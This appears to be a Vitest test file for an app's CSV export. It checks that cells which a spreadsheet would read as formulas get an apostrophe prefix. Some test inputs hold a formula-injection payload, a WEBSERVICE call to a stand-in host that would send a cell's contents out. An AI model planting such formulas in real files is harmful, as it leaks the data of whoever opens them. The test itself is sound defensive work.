import { expect, test } from 'vitest'
import { csvFile } from '../../../../electron/engine/export/csv.ts'

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
/** What stands between a separator and a formula and is no part of the cell for some spreadsheet. */
const between = ['', ' ', '"', '" "', '\t', '\n']

test.each([';', '\t', '|'])(
  'no part of a cell begins a formula for a program that separates cells by %j',
  (separator) => {
    const texts = signs.flatMap((sign) =>
      between.flatMap((more) => [
        `ab${separator}${more}${sign}WEBSERVICE("https://x.example/?"&A1)${separator}cd`,
        `${more.trim()}ab\n${separator}${separator}${more}${sign}A1`,
      ]),
    )
    const cells = csvFile(texts.map((text) => ['0.000', text, text]))
      .replace('\ufeff', '')
      .split(/[\r\n]/)
      .flatMap((line) => line.split(separator))
    expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
  },
)

test('puts an apostrophe only before a cell that a spreadsheet would read as a formula', () => {
  const written = (text: string) => csvFile([[text, 'x']]).replace('\ufeff', '')
  expect(written('=SUM(A1)')).toBe("'=SUM(A1),x\r\n")
  expect(written('ab;=WEBSERVICE("x")')).toBe(`"ab;'=WEBSERVICE(""x"")",x\r\n`)
  expect(written('well, - he said; e-mail a@b.example')).toBe('"well, - he said; e-mail a@b.example",x\r\n')
  expect(csvFile([[-5, true]])).toBe('\ufeff-5,yes\r\n')
})
